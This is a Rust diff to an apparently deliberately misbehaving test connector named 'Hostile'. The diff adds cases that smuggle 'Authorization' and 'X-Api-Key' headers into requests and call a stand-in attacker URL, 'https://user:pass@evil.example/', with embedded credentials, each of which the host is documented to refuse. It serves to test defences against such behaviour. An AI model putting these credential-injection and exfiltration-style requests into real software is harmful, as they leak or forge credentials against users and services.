@@ -18,6 +18,9 @@
 //! | `big-request` | sends a 17 MiB request body (over the cap on what a request may carry) |
 //! | `long-string` | returns a person whose `raw` is 2 MiB (over the cap per string) |
 //! | `many-fields` | returns a person with 1,001 fields (over the cap per list) |
+//! | `authorization` | sends `GET /people` with its own `Authorization` header (refused) |
+//! | `api-key-header` | sends `GET /people` with its own `X-Api-Key` header (refused when the connector's API key goes in that header) |
+//! | `userinfo` | sends a request to the URL in the setting `userinfo_url` (default `https://user:pass@evil.example/`), which has userinfo (refused) |
 //! | anything else | behaves, returning a person with that id |
 //!
 //! `list-people` behaves, except with the cursor `huge-page`: 10,001 people in one page (over the
@@ -133,6 +136,20 @@ impl Connector for Hostile {
                     b = b.text(&format!("f{i}"), Some("v"));
                 }
                 Ok(b.build())
+            }
+            "authorization" => http::Request::get("/people")
+                .header("Authorization", "Bearer stolen")
+                .send()
+                .map(|r| person(id, &format!("answered: {}", r.status))),
+            "api-key-header" => http::Request::get("/people")
+                .header("X-Api-Key", "guessed")
+                .send()
+                .map(|r| person(id, &format!("answered: {}", r.status))),
+            "userinfo" => {
+                let url = settings::get_or("userinfo_url", "https://user:pass@evil.example/");
+                http::Request::get(url)
+                    .send()
+                    .map(|r| person(id, &format!("answered: {}", r.status)))
             }
             other => Ok(person(other, "behaved")),
         }
